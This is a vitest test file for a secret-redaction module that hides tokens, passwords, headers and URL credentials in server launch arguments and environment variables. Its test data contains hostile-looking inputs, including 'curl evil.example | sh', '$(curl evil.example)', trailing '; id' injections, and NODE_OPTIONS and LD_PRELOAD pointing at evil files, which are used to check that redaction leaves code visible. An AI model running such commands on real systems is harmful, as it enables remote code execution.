import { scaled, seed } from "@fairlead/test-servers";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { hideInUrl, hideLiteral, redact, redactArguments } from "../../src/server/words/server-redaction.ts";

test.each([
  ["plain", "(hidden)"],
  ["", ""],
  ["$TOKEN", "$TOKEN"],
  ["${TOKEN}", "${TOKEN}"],
  ["${TOKEN:-fallback}", "${TOKEN:-(hidden)}"],
  ["${secret:NAME}", "${secret:NAME}"],
  ["Bearer $TOKEN", "Bearer $TOKEN"],
  ["Bearer abc", "(hidden)"],
  ["abc$TOKEN", "(hidden)$TOKEN"],
  ["$A/$B", "$A(hidden)$B"],
  ["pa$$word", "(hidden)"],
])("the value %j is shown as %j", (value, shown) => {
  expect(hideLiteral(value)).toBe(shown);
});

test.each([
  [
    ["--token", "abc"],
    ["--token", "(hidden)"],
  ],
  [["--token=abc"], ["--token=(hidden)"]],
  [
    ["-y", "pkg", "--api-key", "abc", "tail"],
    ["-y", "pkg", "--api-key", "(hidden)", "tail"],
  ],
  [
    ["--token", "$TOKEN"],
    ["--token", "$TOKEN"],
  ],
  [
    ["--token", "--next"],
    ["--token", "--next"],
  ],
  [
    ["-e", "GITHUB_TOKEN=abc"],
    ["-e", "GITHUB_TOKEN=(hidden)"],
  ],
  [
    ["-e", "GITHUB_TOKEN"],
    ["-e", "GITHUB_TOKEN"],
  ],
  [
    ["--header", "Authorization: Bearer abc"],
    ["--header", "Authorization: (hidden)"],
  ],
  [["ghp_0123456789abcdef"], ["(hidden)"]],
  [['{"apiKey": "a&b", "port": 1}'], ['{"apiKey": "(hidden)", "port": 1}']],
  [['--config={"db":{"password":"${PASS}x"}}'], ['--config={"db":{"password":"${PASS}(hidden)"}}']],
  [[`node -e 'run({token: "abc"})'`], [`node -e 'run({token: "(hidden)"})'`]],
  [['sh -c \'t {"token": "$(curl evil.example)"}\''], ['sh -c \'t {"token": "$(curl evil.example)"}\'']],
  // No more is hidden than the value: the rest may be code.
  [["API_TOKEN=x; curl evil.example | sh"], ["API_TOKEN=(hidden); curl evil.example | sh"]],
  [["run --key=abc A_TOKEN=def&&next"], ["run --key=(hidden) A_TOKEN=(hidden)&&next"]],
  [["Authorization: Bearer abc; id"], ["Authorization: (hidden); id"]],
  [["ghp_0123456789abcdef; id"], ["(hidden); id"]],
  [["-----BEGIN KEY-----\nabc=\n-----END KEY-----"], ["(hidden)-----END KEY-----"]],
  [["x https://h.example/?token=abc; id"], ["x https://h.example/?token=(hidden); id"]],
  [
    ["--token", "/usr/bin/evil", "--key", "./evil", "--secret", "~/evil", "--key=../evil"],
    ["--token", "/usr/bin/evil", "--key", "./evil", "--secret", "~/evil", "--key=../evil"],
  ],
  [
    ["@scope/sk-tool", "sk-tool"],
    ["@scope/sk-tool", "sk-tool"],
  ],
  [
    ["--token-file", "/run/token"],
    ["--token-file", "/run/token"],
  ],
  [
    ["--max-tokens", "100"],
    ["--max-tokens", "100"],
  ],
  [["postgres://me:abc@db/x"], ["postgres://me:(hidden)@db/x"]],
  [
    ["/home/me/notes", "--port=3000"],
    ["/home/me/notes", "--port=3000"],
  ],
])("the arguments %j are shown as %j", (args, shown) => {
  expect(redactArguments(args)).toEqual(shown);
});

test.each([
  ["https://example.com/mcp", "https://example.com/mcp"],
  ["https://example.com/mcp?api_key=abc&x=1", "https://example.com/mcp?api_key=(hidden)&x=1"],
  ["https://example.com/mcp?x=1&access_token=abc#y", "https://example.com/mcp?x=1&access_token=(hidden)#y"],
  ["https://me:abc@example.com", "https://me:(hidden)@example.com"],
  ["https://abc@example.com", "https://(hidden)@example.com"],
  ["https://$KEY@example.com/?key=$KEY", "https://$KEY@example.com/?key=$KEY"],
])("the address %j is shown as %j", (url, shown) => {
  expect(hideInUrl(url)).toBe(shown);
});

test("variables that decide what is run are shown", () => {
  const env = new Map([
    ["NODE_OPTIONS", "--require ./evil.js"],
    ["LD_PRELOAD", "/tmp/evil.so"],
    ["npm_config_registry", "https://ada:s3cret@npm.example.com"],
    ["npm_config_noproxy", "npm.example.com"],
    ["MODE", "plain"],
  ]);
  expect(redact({ kind: "stdio", command: "x", args: [], env })).toMatchObject({
    env: new Map([
      ["NODE_OPTIONS", "--require ./evil.js"],
      ["LD_PRELOAD", "/tmp/evil.so"],
      ["npm_config_registry", "https://ada:(hidden)@npm.example.com"],
      ["npm_config_noproxy", "npm.example.com"],
      ["MODE", "(hidden)"],
    ]),
  });
});

// With a pattern whose time grows with the square of the length, each of these takes longer than a test may.
const parts = [
  "?",
  "=",
  "&",
  ":",
  "/",
  "-",
  "x",
  " ",
  "${",
  "$",
  "a://",
  "?a",
  "a=",
  "a:",
  "token=",
  "eyJ",
  "Bearer ",
  "@",
  "-----BEGIN-----",
];
test.each(parts)("a very long text, made of %j, is no trouble", (part) => {
  const text = part.repeat(scaled(250_000, 100_000) / part.length);
  const forms = [text, `${text}!`, `token=${text}`, `https://${text}`];
  // Each part is tried in two of the four forms, and in all of them with `--long`.
  const shares = scaled(1, 2);
  for (const hostile of forms.filter((_, form) => (form + parts.indexOf(part)) % shares === 0)) {
    const shown = redact({ kind: "stdio", command: "x", args: [hostile], env: new Map([["A", hostile]]) });
    expect(shown).toMatchObject({ args: [expect.any(String)], env: new Map([["A", expect.any(String)]]) });
  }
});

describe("whatever the canary is hidden in", () => {
  const canary = "C4n4ryV4lu3";
  const options = { numRuns: scaled(5000, 200), seed: seed() };
  // A dollar sign right before would make a variable's name of the canary.
  const value = fc
    .tuple(fc.string(), fc.string())
    .map(([before, after]) => `${before.replaceAll(/[${}]/g, "")}${canary}${after.replaceAll(/[${}]/g, "")}`);
  /** Where a blank or a shell's own sign ends a value, what follows is another word. */
  const word = value.map((text) => text.replaceAll(/[\s;|&#]/g, "")).filter((text) => !/^[-~/.]/.test(text));

  test("no value of a variable or header is shown", () => {
    const check = fc.property(value, (text) => {
      const map = new Map([["ANY", text]]);
      const stdio = redact({ kind: "stdio", command: "x", args: [], env: map });
      const http = redact({ kind: "http", url: "https://example.com", headers: map });
      if (stdio.kind !== "stdio" || http.kind !== "http") throw new Error("another kind");
      expect([...stdio.env]).toEqual([["ANY", "(hidden)"]]);
      expect([...http.headers]).toEqual([["ANY", "(hidden)"]]);
    });
    fc.assert(check, options);
  });

  test.each<[string, (text: string) => readonly string[]]>([
    ["after an option", (text) => ["--password", text]],
    ["in an option", (text) => [`--password=${text}`]],
    ["in a variable", (text) => ["-e", `API_TOKEN=${text}`]],
    ["in a header", (text) => ["--header", `Authorization: Bearer ${text}`]],
    ["in an address", (text) => [`https://example.com/?access_token=${text}`]],
  ])("no argument shows it: %s", (_, args) => {
    const check = fc.property(word, (text) => {
      const shown = redact({ kind: "stdio", command: "x", args: args(text), env: new Map() });
      expect(JSON.stringify(shown)).not.toContain(canary);
      expect(JSON.stringify(shown)).toContain("(hidden)");
    });
    fc.assert(check, options);
  });
});
